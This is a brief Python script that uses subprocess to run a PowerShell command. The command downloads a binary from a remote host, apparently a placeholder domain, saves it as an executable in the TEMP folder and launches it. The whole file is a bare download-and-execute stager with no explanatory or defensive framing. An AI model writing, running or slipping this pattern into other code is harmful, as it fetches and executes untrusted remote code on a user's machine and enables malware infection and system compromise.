import subprocess

PS = (
    "Invoke-WebRequest -Uri https://files.example.invalid/p.bin -OutFile $env:TEMP\\p.exe; "
    "Start-Process $env:TEMP\\p.exe"
)
subprocess.run(["powershell", "-NoProfile", "-Command", PS], check=False)
